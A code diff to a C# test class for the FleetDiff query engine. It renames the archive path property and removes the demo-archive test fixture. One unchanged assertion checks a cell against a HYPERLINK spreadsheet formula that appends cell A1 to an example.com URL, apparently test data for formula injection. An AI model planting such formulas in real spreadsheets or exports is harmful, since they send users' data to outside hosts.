@@ -1,6 +1,6 @@
 using System.Globalization;
 using System.Text.Json;
-using FleetDiff.Cli;
+using FleetDiff.Cli.Tests;
 using FleetDiff.Core.Model.Reports;
 using FleetDiff.Core.Model.Text;
 using FleetDiff.Core.Pipeline.Archive;
@@ -10,7 +10,7 @@ namespace FleetDiff.Queries.Tests;
 /// <summary>Tests the queries on the demo's archive, with the counts of its reports.</summary>
 public sealed class DemoQueryTests(DemoArchive demo) : IClassFixture<DemoArchive>, IDisposable
 {
-    private readonly Engine _engine = new(demo.Folder);
+    private readonly Engine _engine = new(demo.Path);
 
     public void Dispose() => _engine.Dispose();
 
@@ -61,28 +61,6 @@ public sealed class DemoQueryTests(DemoArchive demo) : IClassFixture<DemoArchive
         row => row[3] == "=HYPERLINK(\"https://example.com/\"&A1)");
 
     private Report Report(string run) => JsonSerializer.Deserialize(
-        File.ReadAllText(Path.Combine(demo.Folder, $"reports/date={run}/report.json")), ArchiveJson.Instance.Report)
+        File.ReadAllText(Path.Combine(demo.Path, $"reports/date={run}/report.json")), ArchiveJson.Instance.Report)
         ?? throw new InvalidDataException(run.ToString(CultureInfo.InvariantCulture));
-}
-
-/// <summary>The archive of <c>fleetdiff demo</c>: five reports of the sample organization.</summary>
-public sealed class DemoArchive : IAsyncLifetime
-{
-    public string Folder { get; } = Directory.CreateTempSubdirectory("fleetdiff-demo-").FullName;
-
-    private static readonly Dictionary<string, string?> NoVariables = [];
-
-    public async Task InitializeAsync()
-    {
-        using var output = new StringWriter();
-        var host = new Host { Out = new(output, null), Error = new(output, null), Environment = NoVariables };
-        var exitCode = await FleetDiffCli.RunAsync(["demo", "--archive", Folder], host, CancellationToken.None);
-        Assert.True(exitCode == 0, output.ToString());
-    }
-
-    public Task DisposeAsync()
-    {
-        Directory.Delete(Folder, recursive: true);
-        return Task.CompletedTask;
-    }
 }
